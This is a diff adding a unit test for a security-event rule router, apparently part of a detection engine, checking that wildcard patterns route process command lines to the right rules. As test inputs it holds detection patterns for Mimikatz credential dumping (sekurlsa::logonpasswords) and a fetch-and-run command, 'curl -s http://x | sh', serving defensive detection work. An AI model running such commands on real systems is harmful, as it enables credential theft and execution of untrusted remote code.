@@ -46,6 +46,23 @@ test('router: a rule meets only events whose values pass its cheapest condition,
   assert.deepEqual(routed(router, ev('2026-01-01T00:00:00Z', { event: { category: 'file' }, process: { name: 'curl' } })), []);
 });
 
+test('router: infixes of *…* patterns route on the values that contain them; objects admit them', () => {
+  const router = new RuleRouter([
+    compiled('process where process.command_line : ("*Invoke-Mimikatz*", "*sekurlsa::*")', 'eql', 'mimi'),
+    compiled('process where process.command_line like~ "*\\\\Temp\\\\*.ps1*"', 'eql', 'temp'),
+    compiled('event.category:process and process.command_line:*curl*', 'query', 'kql'),
+  ]);
+  const proc = (command_line: unknown) => ev('2026-01-01T00:00:00Z', { event: { category: 'process' }, process: { command_line } });
+  assert.deepEqual(routed(router, proc('powershell -c invoke-mimikatz -dump')), ['mimi']);
+  assert.deepEqual(routed(router, proc('x SEKURLSA::logonpasswords')), ['mimi']);
+  assert.deepEqual(routed(router, proc('C:\\Users\\a\\AppData\\Local\\TEMP\\x.ps1')), ['temp']);
+  assert.deepEqual(routed(router, proc('curl -s http://x | sh')), ['kql']);
+  assert.deepEqual(routed(router, proc('notepad.exe')), []);
+  assert.deepEqual(routed(router, proc(['a', 'b curl'])), ['kql']);
+  // languages match an object as its JSON text: any infix could be in it
+  assert.deepEqual(routed(router, proc({ text: 'x' })), ['kql', 'mimi', 'temp']);
+});
+
 test('router: numeric-looking terms are not index keys (loose comparison would miss them)', () => {
   const router = new RuleRouter([compiled('process where process.pid == "0123"', 'eql', 'pid')]);
   const e = ev('2026-01-01T00:00:00Z', { event: { category: 'process' }, process: { pid: 123 } });
